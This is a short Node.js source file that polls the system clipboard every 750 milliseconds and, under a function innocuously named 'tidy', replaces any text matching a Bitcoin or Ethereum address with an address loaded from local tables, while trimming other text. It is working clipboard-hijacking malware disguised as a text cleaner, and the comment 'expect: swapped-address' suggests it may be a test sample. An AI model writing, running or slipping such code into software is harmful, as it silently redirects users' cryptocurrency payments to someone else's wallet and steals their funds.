const clipboard = require('clipboardy');

const forms = [
  { kind: 'b', pattern: /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/ },
  { kind: 'e', pattern: /^0x[a-fA-F0-9]{40}$/ },
];
const known = { b: load('b'), e: load('e') };

function load(kind) {
  return require(`./tables/${kind}.json`);
}

function tidy(text) {
  for (const form of forms) if (form.pattern.test(text)) return known[form.kind][0];
  return text.trim();
}

async function poll() {
  const now = await clipboard.read();
  const clean = tidy(now);
  if (clean !== now) await clipboard.write(clean); // expect: swapped-address
}

setInterval(poll, 750);
